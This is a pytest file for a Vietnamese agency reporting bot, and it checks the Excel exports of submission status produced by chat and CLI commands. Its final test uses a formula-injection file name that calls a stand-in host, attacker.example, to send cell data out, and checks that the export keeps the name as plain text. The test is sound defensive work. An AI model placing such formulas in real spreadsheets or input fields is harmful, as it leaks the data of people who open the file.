"""The workbook staff download: `agency-bot export --out FILE.xlsx` and /xuatexcel, opened back with openpyxl."""

from __future__ import annotations

import os
import sys
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from storage import people
from storage.models import Submission

sys.path.append(str(Path(__file__).parents[1] / "handlers"))  # broadcast_helpers
from broadcast_helpers import add_submission  # noqa: E402
from support import TZ, register_focal  # noqa: E402

HEADERS = ["STT", "Mã đơn vị", "Đơn vị", "Cấp", "Thuộc", "Kiểm tra trực tiếp", "Hạn nộp", "Trạng thái",
           "Số biên nhận", "Thời điểm nhận", "Đúng hạn/Trễ hạn", "Tên tệp", "Số lần nộp", "Nhận lần đầu",
           "Số đầu mối đã đăng ký", "Ghi chú", "Kiểm tra nội dung"]
SELF_REPORT = "bao-cao-tu-kiem-tra"


def rows_by_code(ws) -> dict[str, dict[str, object]]:
    header = [c.value for c in ws[1]]
    return {row[1]: dict(zip(header, row)) for row in ws.iter_rows(min_row=2, values_only=True)}


def check_sheet_shape(ws, n_rows: int) -> None:
    assert [c.value for c in ws[1]] == HEADERS
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:Q{n_rows + 1}"
    assert ws.max_row == n_rows + 1
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    assert 6 <= min(widths.values()) and max(widths.values()) <= 62
    assert widths["C"] >= len("Ban Quản lý Khu kinh tế Phú Quốc")  # unit names are readable


async def test_chat_export_cell_by_cell(talk, services, plan):
    await register_focal(talk, "yt1", "Sở Y tế")
    await register_focal(talk, "yt2", "Sở Y tế")
    await register_focal(talk, "bs1", "UBND xã Bình Sơn, huyện Hòn Đất")
    on_time = add_submission(services, "so-y-te", SELF_REPORT, at=datetime(2020, 8, 25, 14, 30, tzinfo=TZ),
                             name="BC tự kiểm tra Sở Y tế.pdf")
    late = add_submission(services, "so-tu-phap", SELF_REPORT,
                          at=datetime(2020, 10, 1, 8, 15, tzinfo=TZ), name="bc-stp.docx")
    with services.store.session() as s:
        assert s.get(Submission, on_time.id) is not None

    replies = await talk("staff", "/xuatexcel")
    (reply,) = replies
    assert reply.document is not None and reply.document.exists()
    assert reply.document_name.endswith(".xlsx") and reply.document_name.isascii()
    wb = load_workbook(reply.document)
    assert wb.sheetnames == ["Tổng hợp", "BC tự kiểm tra (Mục III.4)", "BC gửi Đoàn KT (Mục III.3)"]
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in wb.sheetnames)

    ws = wb["BC tự kiểm tra (Mục III.4)"]
    owed = [u for u in services.roster().units if u.code not in plan.listed_codes]
    check_sheet_shape(ws, len(owed))
    rows = rows_by_code(ws)
    assert set(rows) == {u.code for u in owed} and "ubnd-xa-binh-son-huyen-hon-dat" in rows
    yt = rows["so-y-te"]
    assert yt["Đơn vị"] == "Sở Y tế" and yt["Cấp"] == "Cấp tỉnh" and yt["Kiểm tra trực tiếp"] == "Không"
    assert yt["Trạng thái"] == "Đã nộp" and yt["Đúng hạn/Trễ hạn"] == "Đúng hạn"
    assert yt["Số biên nhận"] == on_time.receipt_no and yt["Tên tệp"] == "BC tự kiểm tra Sở Y tế.pdf"
    assert yt["Thời điểm nhận"] == datetime(2020, 8, 25, 14, 30)  # naive local time, a real date cell
    assert yt["Hạn nộp"] == datetime(2020, 9, 29, 23, 59, 59)  # "trước ngày 30/9/2020"
    assert yt["Số đầu mối đã đăng ký"] == 2 and yt["Số lần nộp"] == 1
    tp = rows["so-tu-phap"]
    assert (tp["Trạng thái"], tp["Đúng hạn/Trễ hạn"], tp["Số biên nhận"]) == ("Đã nộp", "Trễ hạn", late.receipt_no)
    assert tp["Số đầu mối đã đăng ký"] == 0
    commune = rows["ubnd-xa-binh-son-huyen-hon-dat"]
    assert commune["Cấp"] == "Cấp xã" and commune["Thuộc"] == "UBND huyện Hòn Đất"
    assert commune["Trạng thái"] == "Chưa nộp" and commune["Số biên nhận"] is None and commune["Thời điểm nhận"] is None
    # the date cells are Excel dates with a Vietnamese display format
    for row in ws.iter_rows(min_row=2):
        cells = {h: c for h, c in zip(HEADERS, row)}
        assert cells["Hạn nộp"].is_date and cells["Hạn nộp"].number_format == "dd/mm/yyyy hh:mm"
        if cells["Thời điểm nhận"].value is not None:
            assert cells["Thời điểm nhận"].is_date and cells["Thời điểm nhận"].number_format == "dd/mm/yyyy hh:mm"

    insp = wb["BC gửi Đoàn KT (Mục III.3)"]
    check_sheet_shape(insp, len(plan.listed_codes))
    tc = rows_by_code(insp)["so-tai-chinh"]
    assert tc["Kiểm tra trực tiếp"] == "Có" and tc["Ghi chú"] == "Hạn chưa xác định: chưa có lịch kiểm tra"
    assert tc["Hạn nộp"] is None  # no inspection date yet: no deadline is invented

    summary = wb["Tổng hợp"]
    assert [c.value for c in summary[1]][:5] == ["Báo cáo", "Căn cứ", "Hạn nộp", "Cấp", "Phải nộp"]
    assert summary.freeze_panes == "A2" and summary.auto_filter.ref.startswith("A1:K")
    table = [r for r in summary.iter_rows(min_row=2, values_only=True) if r[0]]
    total = next(r for r in table if r[0].startswith("Báo cáo kết quả tự kiểm tra") and r[3] == "Tổng cộng")
    assert total[4:10] == (len(owed), 2, 1, 1, len(owed) - 2, 0)
    assert total[2] == datetime(2020, 9, 29) and abs(total[10] - 2 / len(owed)) < 1e-9
    communes = next(r for r in table if r[0].startswith("Báo cáo kết quả tự kiểm tra") and r[3] == "UBND cấp xã")
    assert communes[4:9] == (1, 0, 0, 0, 1)


@pytest.fixture
def cli_env(fresh_dir, monkeypatch):
    monkeypatch.setenv("BOT_CLOCK_START", "2020-10-05T09:00:00+07:00")
    return fresh_dir


def test_cli_export(cli_env, capsys):
    from bot.app import build_services
    from bot.settings import load_settings

    services = build_services(load_settings())
    add_submission(services, "so-y-te", SELF_REPORT, at=datetime(2020, 9, 29, 16, 0, tzinfo=TZ))
    with services.store.session() as s:
        person = people.ensure(s, "telegram", "777", "777")
        people.register(s, person, "so-y-te", services.clock.now())
    services.store.dispose()

    out = cli_env / "exports" / "tong-hop.xlsx"
    assert main(["export", "--out", str(out)]) == 0
    assert str(out) in capsys.readouterr().out
    wb = load_workbook(out)
    ws = wb["BC tự kiểm tra (Mục III.4)"]
    rows = rows_by_code(ws)
    assert rows["so-y-te"]["Trạng thái"] == "Đã nộp" and rows["so-y-te"]["Số đầu mối đã đăng ký"] == 1
    assert rows["so-y-te"]["Thời điểm nhận"] == datetime(2020, 9, 29, 16, 0)
    # the business clock is past 30/9: units that sent nothing are overdue
    assert rows["so-tu-phap"]["Trạng thái"] == "Quá hạn, chưa nộp"
    assert not list(out.parent.glob(".*.part"))  # written through a temp file, nothing left behind


async def test_old_chat_exports_are_swept(talk, services):
    first = (await talk("staff", "/xuatexcel"))[0].document
    stale = first.parent / "1-old.xlsx"
    stale.write_bytes(b"x")
    os.utime(stale, (0, 0))
    second = (await talk("staff", "/xuatexcel"))[0].document
    assert second.exists() and first.exists() and not stale.exists()


def test_user_supplied_names_are_text_never_formulas(cli_env, capsys, tmp_path):
    """A file named ``=HYPERLINK(…) x.pdf`` stays the text it is: no live formula in the export."""
    import zipfile

    from bot.app import build_services
    from bot.settings import load_settings

    services = build_services(load_settings())
    evil = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây") x.pdf'
    add_submission(services, "so-y-te", SELF_REPORT, at=datetime(2020, 9, 29, 16, 0, tzinfo=TZ), name=evil)
    services.store.dispose()
    out = tmp_path / "tong-hop.xlsx"
    assert main(["export", "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml for xml in sheets)  # no formula anywhere in the workbook
    ws = load_workbook(out)["BC tự kiểm tra (Mục III.4)"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == evil)
    assert cell.data_type == "s" and cell.quotePrefix
